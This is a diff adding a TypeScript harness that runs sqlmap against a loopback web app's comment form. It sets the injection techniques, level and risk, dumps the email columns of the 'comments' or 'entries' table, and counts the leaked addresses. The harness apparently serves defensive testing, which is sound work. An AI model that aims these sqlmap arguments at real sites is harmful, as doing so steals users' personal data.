@@ -1,0 +1,96 @@
+// The real attacker: sqlmap, from the system's packages, against loopback only, bounded in time.
+import { spawn, spawnSync } from "node:child_process"
+import { mkdir, readdir, readFile, rm } from "node:fs/promises"
+import { join } from "node:path"
+
+/** sqlmap's letters: union, error-based, boolean, time-based, stacked. */
+export const TECHNIQUES = ["U", "E", "B", "T", "S"] as const
+export type Technique = (typeof TECHNIQUES)[number]
+
+export interface SqlmapRun {
+    /** Distinct addresses that stand in what sqlmap wrote down: its dump, its log and the responses it received. */
+    readonly emails: ReadonlySet<string>
+    /** Rows of the dumped table that sqlmap itself counted as obtained. */
+    readonly rows: number
+    readonly seconds: number
+    readonly requests: number
+}
+
+export interface SqlmapOptions {
+    /** Origin of the site, on loopback. */
+    readonly url: string
+    readonly technique: Technique
+    /** sqlmap is interrupted after this; what it has by then counts. */
+    readonly limitSeconds: number
+    readonly workDir: string
+    readonly hex: boolean
+    readonly table: "comments" | "entries"
+}
+
+const ADDRESS = /[a-z0-9.-]+@(?:[a-z0-9-]+\.)+[a-z]{2,}/gi
+const ATTACKER_ADDRESS = "attacker@station.invalid"
+/** Between asking sqlmap to end, so that it writes down what it has, and ending it. */
+const GRACE_SECONDS = 10
+
+export function sqlmapIsInstalled(): boolean {
+    return spawnSync("sqlmap", ["--version"], { stdio: "ignore" }).status === 0
+}
+
+/** Attacks the comment form once. The attacker posts an honest comment first, so that there is a row to compare with. */
+export async function runSqlmap(options: SqlmapOptions): Promise<SqlmapRun> {
+    await rm(options.workDir, { recursive: true, force: true })
+    await mkdir(options.workDir, { recursive: true })
+    const form = { programme: "quiz", nickname: "q", email: ATTACKER_ADDRESS, comment: "hello" }
+    const body = new URLSearchParams(form).toString()
+    await fetch(`${options.url}/comment`, { method: "POST", body: new URLSearchParams(form) })
+    const trafficFile = join(options.workDir, "traffic.txt")
+    const started = performance.now()
+    await runToEnd(argumentsOf(options, body, trafficFile), options.limitSeconds)
+    const seconds = (performance.now() - started) / 1_000
+    return { ...(await readLoot(options.workDir, trafficFile)), seconds }
+}
+
+function argumentsOf(options: SqlmapOptions, body: string, trafficFile: string): string[] {
+    const target = ["-u", `${options.url}/comment`, "--data", body, "-p", "programme", "--dbms", "SQLite"]
+    // Level 3 and risk 2 are what sqlmap needs to try its SQLite payloads for T and S at all.
+    const effort = [
+        "--technique",
+        options.technique,
+        "--level",
+        "3",
+        "--risk",
+        "2",
+        "--threads",
+        "10",
+        "--time-sec",
+        "1",
+    ]
+    const columns = options.table === "comments" ? "nickname,email" : "name,email"
+    const loot = ["-T", options.table, "-C", columns, "--dump", "-t", trafficFile, "--output-dir", options.workDir]
+    return ["--batch", "--disable-coloring", ...target, ...effort, ...loot, ...(options.hex ? ["--hex"] : [])]
+}
+
+async function runToEnd(args: readonly string[], limitSeconds: number): Promise<void> {
+    const child = spawn("sqlmap", args, { stdio: ["ignore", "ignore", "ignore"] })
+    const ask = setTimeout(() => child.kill("SIGINT"), limitSeconds * 1_000)
+    const end = setTimeout(() => child.kill("SIGKILL"), (limitSeconds + GRACE_SECONDS) * 1_000)
+    await new Promise((resolve) => child.once("close", resolve))
+    clearTimeout(ask)
+    clearTimeout(end)
+}
+
+async function readLoot(workDir: string, trafficFile: string): Promise<Omit<SqlmapRun, "seconds">> {
+    const names = await readdir(workDir, { recursive: true })
+    const dumps = names.filter((name) => /dump.*\.csv/.test(name)).map((name) => join(workDir, name))
+    const rows = (await Promise.all(dumps.map(readText))).flatMap((text) => text.split("\n").slice(1)).filter(Boolean)
+    const traffic = await readText(trafficFile)
+    const answers = traffic.split(/^HTTP response \[/m).slice(1)
+    const texts = [...rows, ...answers.map((answer) => answer.split(/^={20,}$|^HTTP request \[/m)[0] ?? "")]
+    const found = texts.flatMap((text) => text.match(ADDRESS) ?? []).map((address) => address.toLowerCase())
+    const emails = new Set(found.filter((address) => address !== ATTACKER_ADDRESS && !address.startsWith("info@")))
+    return { emails, rows: rows.length, requests: answers.length }
+}
+
+async function readText(file: string): Promise<string> {
+    return readFile(file, "utf8").catch(() => "")
+}
